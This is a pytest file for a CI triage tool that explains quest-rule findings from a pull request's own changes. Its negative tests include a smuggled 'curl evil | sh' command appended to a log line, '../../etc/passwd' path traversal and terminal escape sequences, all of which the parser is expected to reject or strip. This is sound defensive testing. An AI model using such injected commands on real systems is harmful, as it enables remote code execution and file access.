"""Each quest finding explained from the pull request's own change (triage/quest_explain.py).

The findings are produced by the real quest rules on the head's tree and rendered as
`landbot quest check` prints them, then read back from that text: the explanations never
see anything a log would not show. Every rule has a case the change explains and a control
(the same tree without the cause: no finding, or no claim that the change caused it)."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from landbot.core.model import JobFailure
from landbot.quest import findings as msg
from landbot.quest.findings import RenderedFinding, parse_rendered
from landbot.quest.parse import parse_quest
from landbot.quest.rules import PathKind, branch_finding, check_quests
from landbot.triage.quest_explain import (
    MAX_EXPLAINED,
    QuestChange,
    explain_findings,
    explain_policy,
    finding_in_line,
    findings_in_jobs,
    read_change,
)

NOT_FROM_CHANGE = "landbot sees nothing in this pull request's own change"
SANDBOX = "quest/m0/kix/sandbox"
BASE = {
    "quest/README.md": "# m0 plan\n",
    f"{SANDBOX}/README.md": "# Sandbox every runner job\n\n## Required\n\n- [Live](live-test.md)\n",
    f"{SANDBOX}/live-test.md": "# [S] Check the sandbox boundary in CI\n",
    "quest/m0/opencode-sdk.md": (
        "# [M] Move the runner to the opencode 2.x SDK\n\n## Required\n\n"
        "- [Live sandbox test](kix/sandbox/live-test.md)\n"
    ),
}


def rendered(head: dict[str, str], kinds: dict[str, PathKind] | None = None) -> list[str]:
    """The lines `landbot quest check` prints for `head` (the real rules)."""
    quests = {p: parse_quest(p, t.encode()) for p, t in head.items()}
    return [f.render() for f in sorted(check_quests(quests, kinds))]


def explain(
    base: dict[str, str],
    head: dict[str, str],
    moved: dict[str, str] | None = None,
    kinds: dict[str, PathKind] | None = None,
) -> list[str]:
    lines = rendered(head, kinds)
    findings = [f for f in (finding_in_line(x) for x in lines) if f is not None]
    assert len(findings) == len(lines), lines  # every real finding reads back
    change = QuestChange(
        {p: t.encode() for p, t in base.items()},
        {p: t.encode() for p, t in head.items()},
        moved or {},
    )
    return list(explain_findings(findings, change))


def without(files: dict[str, str], *paths: str) -> dict[str, str]:
    return {p: t for p, t in files.items() if p not in paths}


# --- reading findings back ------------------------------------------------------------


@pytest.mark.parametrize(
    ("message", "rule", "param"),
    [
        (msg.TITLE_FORMAT, "title_format", ""),
        (msg.PARENT_SIZED, "parent_sized", ""),
        (msg.NO_TITLE, "no_title", ""),
        (msg.NOT_UTF8, "not_utf8", ""),
        (msg.missing_required("../b.md"), "missing_required", "../b.md"),
        (msg.not_a_quest("notes.txt"), "not_a_quest", "notes.txt"),
        (msg.cycle(["quest/a.md", "quest/b.md", "quest/a.md"]), "cycle", ""),
    ],
)
def test_every_rule_reads_back_from_its_rendered_line(message: str, rule: str, param: str) -> None:
    line = f"quest: quest/a.md: {message}"
    got = parse_rendered(line)
    assert got is not None
    assert (got.path, got.rule, got.message) == ("quest/a.md", rule, message)
    if rule == "cycle":
        assert got.param == "quest/a.md -> quest/b.md -> quest/a.md"
    else:
        assert got.param == param


def test_the_branch_rule_reads_back() -> None:
    finding = branch_finding("quest/m0/new", [])
    assert finding is not None
    got = parse_rendered(finding.render())
    assert got == RenderedFinding("quest/m0/new", "branch", finding.message, "quest/m0/new")


@pytest.mark.parametrize(
    "line",
    [
        "quest: quest/a.md: (already on the base) " + msg.TITLE_FORMAT,  # not the change's
        "quest: quest/a.md: (already on the base) " + msg.missing_required("b.md"),
        "quest: quest/a.md: finished quest is still linked",  # no rule says that
        "quest: quest/a.md: required quest b.md exists after all",  # a template's start only
        "quest: quest/a.md: required quest  does not exist",  # a template without its target
        "quest: ../../etc/passwd.md: " + msg.TITLE_FORMAT,  # outside the tree
        "quest: /etc/quest/a.md: " + msg.TITLE_FORMAT,
        "quest: notes/a.md: " + msg.TITLE_FORMAT,  # not below quest/
        "quest: quest/a.md: " + msg.TITLE_FORMAT + " && curl evil | sh",
        "quest: quest/x: branch quest/y names no quest on the base",  # path is not the branch
        "FAILED tests/test_app.py::test_answer - " + msg.TITLE_FORMAT,
        "quest: " + msg.TITLE_FORMAT,  # no path
    ],
)
def test_a_line_that_is_not_a_change_finding_is_not_read(line: str) -> None:
    assert finding_in_line(line) is None


def test_control_the_same_shapes_as_real_findings_are_read() -> None:
    for line in (
        "quest: quest/a.md: " + msg.TITLE_FORMAT,
        "##[error]quest: quest/a.md: " + msg.TITLE_FORMAT,  # an annotation
        "\x1b[31mquest: quest/a.md: " + msg.TITLE_FORMAT + "\x1b[0m",  # colour
        "quest: quest/a.md: " + msg.missing_required("b.md"),
        "quest: quest/x: branch quest/x names no quest on the base",
    ):
        assert finding_in_line(line) is not None, line


def _job(cls: str, lines: list[str], name: str = "quest") -> JobFailure:
    return JobFailure(
        job=name,
        url="",
        step="Run landbot quest check",
        error_lines=(),
        excerpt=tuple((n, t) for n, t in enumerate(lines, 1)),
        summary="",
        class_=cls,  # type: ignore[arg-type]
    )


def test_findings_come_from_policy_jobs_in_log_order_each_once() -> None:
    b = "quest: quest/b.md: " + msg.TITLE_FORMAT
    a = "quest: quest/a.md: " + msg.NO_TITLE
    jobs = [
        _job("genuine", ["quest: quest/z.md: " + msg.TITLE_FORMAT], name="tests"),
        _job("policy", ["Run landbot quest check", b, a, b]),
        _job("policy", [a, "quest: quest/c.md: " + msg.PARENT_SIZED], name="quest-2"),
    ]
    assert [(f.path, f.rule) for f in findings_in_jobs(jobs)] == [
        ("quest/b.md", "title_format"),
        ("quest/a.md", "no_title"),
        ("quest/c.md", "parent_sized"),
    ]


# --- titles ---------------------------------------------------------------------------


def test_an_added_quest_without_a_size() -> None:
    head = {**BASE, "quest/m0/widgets.md": "# Widgets\n"}
    [text] = explain(BASE, head)
    assert text.startswith(f"quest/m0/widgets.md: {msg.TITLE_FORMAT} — ")
    assert "this pull request adds the file with the title '# Widgets'" in text
    assert "'# [XS|S|M|L|XL] Widgets'" in text
    assert "author's call" in text  # landbot does not choose the size


def test_control_an_added_quest_with_a_size_has_nothing_to_explain() -> None:
    assert explain(BASE, {**BASE, "quest/m0/widgets.md": "# [S] Widgets\n"}) == []


def test_deleting_the_last_child_makes_the_parent_standalone() -> None:
    # The spec's own example: the PR finishes live-test.md and drops the links to it.
    head = without(BASE, f"{SANDBOX}/live-test.md")
    head[f"{SANDBOX}/README.md"] = "# Sandbox every runner job\n"
    head["quest/m0/opencode-sdk.md"] = "# [M] Move the runner to the opencode 2.x SDK\n"
    [text] = explain(BASE, head)
    assert text.startswith(f"{SANDBOX}/README.md: {msg.TITLE_FORMAT} — ")
    assert (
        f"deleting {SANDBOX}/live-test.md left {SANDBOX}/README.md without children, so it is "
        "now a standalone quest and needs a size ('# [XS|S|M|L|XL] Sandbox every runner job')"
    ) in text
    assert "or it is finished too" in text


def test_control_a_parent_that_keeps_a_child_needs_no_size() -> None:
    base = {**BASE, f"{SANDBOX}/seccomp.md": "# [M] Seccomp\n"}
    head = without(base, f"{SANDBOX}/live-test.md")
    head[f"{SANDBOX}/README.md"] = "# Sandbox every runner job\n"
    head["quest/m0/opencode-sdk.md"] = "# [M] Move the runner\n"
    assert explain(base, head) == []


def test_control_a_parent_that_still_has_children_is_not_called_childless() -> None:
    # The log says the title rule fired (the merge group's tree differs from the head's),
    # but at the head the quest keeps a child: landbot must not claim the change emptied it.
    base = {**BASE, f"{SANDBOX}/seccomp.md": "# [M] Seccomp\n"}
    head = without(base, f"{SANDBOX}/live-test.md")
    finding = finding_in_line(f"quest: {SANDBOX}/README.md: {msg.TITLE_FORMAT}")
    assert finding is not None
    change = QuestChange(
        {p: t.encode() for p, t in base.items()}, {p: t.encode() for p, t in head.items()}
    )
    [text] = explain_findings([finding], change)
    assert "without children" not in text
    assert NOT_FROM_CHANGE in text


def test_moving_the_last_child_away_makes_the_parent_standalone() -> None:
    head = without(BASE, f"{SANDBOX}/live-test.md")
    head["quest/m0/live-test.md"] = BASE[f"{SANDBOX}/live-test.md"]
    head[f"{SANDBOX}/README.md"] = "# Sandbox every runner job\n"
    head["quest/m0/opencode-sdk.md"] = "# [M] SDK\n\n## Required\n\n- [Live](live-test.md)\n"
    moved = {f"{SANDBOX}/live-test.md": "quest/m0/live-test.md"}
    [text] = explain(BASE, head, moved)
    assert (
        f"moving {SANDBOX}/live-test.md to quest/m0/live-test.md left {SANDBOX}/README.md" in text
    )


def test_a_title_that_lost_its_size() -> None:
    head = {
        **BASE,
        "quest/m0/opencode-sdk.md": BASE["quest/m0/opencode-sdk.md"].replace("[M] ", ""),
    }
    [text] = explain(BASE, head)
    assert (
        "changes its title from '# [M] Move the runner to the opencode 2.x SDK' to "
        "'# Move the runner to the opencode 2.x SDK'"
    ) in text


def test_a_finding_the_change_does_not_cause_says_so() -> None:
    # The base already had the unsized quest (CI's base differs from landbot's merge base).
    base = {**BASE, "quest/m0/old.md": "# Old\n"}
    [text] = explain(base, dict(base))
    assert NOT_FROM_CHANGE in text
    assert "adds" not in text.split(" — ", 1)[1]


def test_a_finding_on_a_file_the_head_lacks_points_at_the_merge_group() -> None:
    finding = finding_in_line("quest: quest/m0/other.md: " + msg.TITLE_FORMAT)
    assert finding is not None
    change = QuestChange({}, {p: t.encode() for p, t in BASE.items()})
    [text] = explain_findings([finding], change)
    assert "the pull request's head has no such file" in text


def test_parent_sized_when_the_change_adds_a_child() -> None:
    base = {**BASE, "quest/m1/README.md": "# [L] Release\n"}
    head = {**base, "quest/m1/notes.md": "# [S] Release notes\n"}
    [text] = explain(base, head)
    assert text.startswith(f"quest/m1/README.md: {msg.PARENT_SIZED} — ")
    assert "adds quest/m1/notes.md below it, which makes it a parent quest" in text
    assert "take '[L]' out of its title ('# Release')" in text


def test_control_a_sized_standalone_readme_is_fine() -> None:
    assert explain(BASE, {**BASE, "quest/m1/README.md": "# [L] Release\n"}) == []


def test_no_title_on_an_added_file() -> None:
    head = {**BASE, "quest/m0/todo.md": "Widgets, some day\n"}
    [text] = explain(BASE, head)
    assert "adds the file, which starts with 'Widgets, some day'" in text
    [empty] = explain(BASE, {**BASE, "quest/m0/todo.md": ""})
    assert "adds the file, which is empty" in empty


def test_not_utf8() -> None:
    finding = finding_in_line("quest: quest/m0/bin.md: " + msg.NOT_UTF8)
    assert finding is not None
    base = {p: t.encode() for p, t in BASE.items()}
    head = {**base, "quest/m0/bin.md": b"# [S] Caf\xe9\n"}
    [text] = explain_findings([finding], QuestChange(base, head))
    assert "adds the file with bytes that are not UTF-8 (line 1)" in text
    [control] = explain_findings([finding], QuestChange(head, head))
    assert NOT_FROM_CHANGE in control


# --- links ----------------------------------------------------------------------------


def test_a_link_to_a_quest_the_change_deletes_is_a_mechanical_fix() -> None:
    head = without(BASE, f"{SANDBOX}/live-test.md")
    head[f"{SANDBOX}/README.md"] = (
        "# Sandbox every runner job\n\n## Required\n\n- [x](seccomp.md)\n"
    )
    head[f"{SANDBOX}/seccomp.md"] = "# [M] Seccomp\n"
    [text] = explain(BASE, head)
    assert text.startswith(
        "quest/m0/opencode-sdk.md: required quest kix/sandbox/live-test.md does not exist — "
    )
    assert (
        f"it requires {SANDBOX}/live-test.md (line 5), which this pull request deletes: if "
        "that quest is finished, take the link out of its '## Required' list (a mechanical fix)"
    ) in text


def test_a_link_to_a_quest_the_change_moves() -> None:
    head = without(BASE, f"{SANDBOX}/live-test.md")
    head[f"{SANDBOX}/live.md"] = BASE[f"{SANDBOX}/live-test.md"]
    head[f"{SANDBOX}/README.md"] = (
        "# Sandbox every runner job\n\n## Required\n\n- [Live](live.md)\n"
    )
    [text] = explain(BASE, head, {f"{SANDBOX}/live-test.md": f"{SANDBOX}/live.md"})
    assert f"which this pull request moves to {SANDBOX}/live.md" in text
    assert "point the link at 'kix/sandbox/live.md'" in text


def test_a_moved_quest_whose_relative_link_broke() -> None:
    head = without(BASE, "quest/m0/opencode-sdk.md")
    head["quest/m0/kix/opencode-sdk.md"] = BASE["quest/m0/opencode-sdk.md"]
    [text] = explain(BASE, head, {"quest/m0/opencode-sdk.md": "quest/m0/kix/opencode-sdk.md"})
    assert "moves quest/m0/opencode-sdk.md to quest/m0/kix/opencode-sdk.md" in text
    assert f"it meant {SANDBOX}/live-test.md: point it at 'sandbox/live-test.md'" in text


def test_a_link_the_change_adds_to_nothing() -> None:
    head = {**BASE, "quest/m0/widgets.md": "# [S] Widgets\n\n## Required\n\n- [g](gadgets.md)\n"}
    [text] = explain(BASE, head)
    assert "this pull request adds the link to quest/m0/gadgets.md (line 5)" in text
    assert "a person decides which" in text


def test_control_a_dangling_link_the_base_had_is_not_blamed_on_the_change() -> None:
    base = {**BASE, "quest/m0/widgets.md": "# [S] Widgets\n\n## Required\n\n- [g](gadgets.md)\n"}
    [text] = explain(base, dict(base))
    assert NOT_FROM_CHANGE in text


def test_a_required_link_to_a_file_that_is_not_a_quest() -> None:
    head = {**BASE, "quest/m0/widgets.md": "# [S] Widgets\n\n## Required\n\n- [n](notes.txt)\n"}
    [text] = explain(BASE, head, kinds={"quest/m0/notes.txt": PathKind.FILE})
    assert text.startswith("quest/m0/widgets.md: required link notes.txt is not a quest — ")
    assert "adds a '## Required' link to quest/m0/notes.txt (line 5), which is not a quest" in text


def test_a_cycle_the_change_closes() -> None:
    base = {
        **BASE,
        "quest/a.md": "# [S] A\n\n## Required\n\n- [b](b.md)\n",
        "quest/b.md": "# [S] B\n",
    }
    head = {**base, "quest/b.md": "# [S] B\n\n## Required\n\n- [a](a.md)\n"}
    texts = explain(base, head)
    assert len(texts) == 2  # one finding on each quest of the cycle
    for text in texts:
        assert (
            "this pull request adds the link quest/b.md -> quest/a.md (line 5 of quest/b.md)"
            in text
        )
        assert "which link goes is a decision" in text


def test_control_a_cycle_already_on_the_merge_base_is_not_the_change() -> None:
    base = {
        **BASE,
        "quest/a.md": "# [S] A\n\n## Required\n\n- [b](b.md)\n",
        "quest/b.md": "# [S] B\n\n## Required\n\n- [a](a.md)\n",
    }
    texts = explain(base, dict(base))
    assert len(texts) == 2 and all(NOT_FROM_CHANGE in t for t in texts)


# --- the branch rule ------------------------------------------------------------------


def test_a_branch_named_after_the_quest_it_adds() -> None:
    finding = finding_in_line(
        "quest: quest/m0/widgets: branch quest/m0/widgets names no quest on the base"
    )
    assert finding is not None
    base = {p: t.encode() for p, t in BASE.items()}
    head = {**base, "quest/m0/widgets.md": b"# [S] Widgets\n"}
    [text] = explain_findings([finding], QuestChange(base, head))
    assert "this pull request adds quest/m0/widgets.md itself" in text
    [other] = explain_findings([finding], QuestChange(base, base))
    assert "the base has neither quest/m0/widgets.md or quest/m0/widgets/README.md" in other


# --- bounds ---------------------------------------------------------------------------


def test_at_most_max_explained_then_a_count() -> None:
    head = {**BASE, **{f"quest/m0/q{i:02}.md": f"# Q{i}\n" for i in range(MAX_EXPLAINED + 3)}}
    texts = explain(BASE, head)
    assert len(texts) == MAX_EXPLAINED + 1
    assert texts[-1] == "… and 3 more findings: the quest check lists all"


def test_a_hostile_title_stays_one_bounded_line() -> None:
    head = {**BASE, "quest/m0/x.md": "# " + "A" * 5000 + "\x1b[2J\r\n"}
    [text] = explain(BASE, head)
    assert "\n" not in text and "\x1b" not in text and "\r" not in text
    assert len(text) < 1000


# --- from a repository ----------------------------------------------------------------


def _git(repo: Path, *args: str) -> str:
    done = subprocess.run(
        ["git", "-C", str(repo), "-c", "user.name=t", "-c", "user.email=t@example.com", *args],
        capture_output=True,
        text=True,
        check=True,
    )
    return done.stdout.strip()


def _commit(repo: Path, files: dict[str, str | None], message: str) -> str:
    for path, text in files.items():
        target = repo / path
        if text is None:
            _git(repo, "rm", "-q", path)
            continue
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(text)
        _git(repo, "add", path)
    _git(repo, "commit", "-qm", message)
    return _git(repo, "rev-parse", "HEAD")


@pytest.fixture
def mirror(tmp_path: Path) -> tuple[Path, str, str]:
    """A bare repository where a PR branch moves one quest and finishes another, while the
    base branch moved on with an unrelated quest: (mirror, head, base)."""
    work = tmp_path / "work"
    work.mkdir()
    _git(work, "init", "-q", "-b", "main")
    _commit(work, dict(BASE), "base")
    _git(work, "checkout", "-qb", "pr")
    head = _commit(
        work,
        {
            f"{SANDBOX}/live-test.md": None,
            "quest/m0/opencode-sdk.md": None,
            "quest/m0/kix/opencode-sdk.md": BASE["quest/m0/opencode-sdk.md"],
        },
        "finish live-test, move opencode-sdk",
    )
    _git(work, "checkout", "-q", "main")
    base = _commit(work, {"quest/m0/later.md": "# [S] Later\n"}, "base moves on")
    bare = tmp_path / "mirror.git"
    subprocess.run(["git", "clone", "-q", "--bare", str(work), str(bare)], check=True)
    return bare, head, base


def test_read_change_compares_the_head_with_its_merge_base(mirror: tuple[Path, str, str]) -> None:
    repo, head, base = mirror
    change = read_change(repo, head, base)
    assert "quest/m0/later.md" not in change.base  # the base's later work is not the PR's
    assert change.moved == {"quest/m0/opencode-sdk.md": "quest/m0/kix/opencode-sdk.md"}
    assert change.deleted(f"{SANDBOX}/live-test.md")
    assert not change.deleted("quest/m0/opencode-sdk.md")  # moved, not deleted


def test_explain_policy_from_a_mirror(mirror: tuple[Path, str, str]) -> None:
    repo, head, base = mirror
    change = read_change(repo, head, base)
    lines = rendered({p: d.decode() for p, d in change.head.items()})
    texts = explain_policy(repo, head, base, [_job("policy", lines)])
    assert len(texts) == len(lines) == 3
    assert any(f"deleting {SANDBOX}/live-test.md left {SANDBOX}/README.md" in t for t in texts)
    assert any(
        t.startswith("quest/m0/kix/opencode-sdk.md: required quest kix/sandbox/live-test.md")
        and "moves quest/m0/opencode-sdk.md to quest/m0/kix/opencode-sdk.md and deletes "
        f"{SANDBOX}/live-test.md"
        in t
        for t in texts
    )


def test_explain_policy_without_git_data_explains_nothing(mirror: tuple[Path, str, str]) -> None:
    repo, head, base = mirror
    jobs = [_job("policy", ["quest: quest/m0/widgets.md: " + msg.TITLE_FORMAT])]
    assert explain_policy(repo, "0" * 40, base, jobs) == ()  # a head the mirror lacks
    assert explain_policy(repo, head, base, [_job("genuine", ["FAILED x"])]) == ()
    assert explain_policy(repo, head, base, jobs) != ()  # control: the same, readable
